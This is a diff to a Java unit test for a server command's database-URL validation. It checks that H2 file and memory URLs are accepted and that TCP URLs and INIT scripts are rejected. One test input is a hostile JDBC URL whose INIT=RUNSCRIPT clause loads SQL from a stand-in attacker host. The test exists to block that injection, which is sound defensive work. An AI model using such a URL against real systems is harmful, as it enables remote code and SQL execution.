@@ -85,4 +85,17 @@ class ServeCommandTest {
         "--max-authorize-permissions", "lots")).hasMessageStartingWith(
             "--max-authorize-permissions \"lots\" is not a limit");
   }
+
+  @Test
+  void h2DatabaseUrl_config_acceptsFileAndMemoryOnly_andNoInitScript() {
+    assertThat(config("--data-dir", directory.toString(), "--database-url",
+        "jdbc:h2:mem:tollgate;DB_CLOSE_DELAY=-1").database().jdbcUrl())
+        .isEqualTo("jdbc:h2:mem:tollgate;DB_CLOSE_DELAY=-1");
+    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--database-url",
+        "jdbc:h2:tcp://db/tollgate")).hasMessageContaining("is not supported; expected"
+            + " jdbc:postgresql://HOST[:PORT]/DATABASE, jdbc:h2:file:PATH or jdbc:h2:mem:NAME");
+    assertThatThrownBy(() -> config("--data-dir", directory.toString(), "--database-url",
+        "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://attacker.example/x.sql'"))
+        .hasMessageContaining("runs a script (INIT=)");
+  }
 }
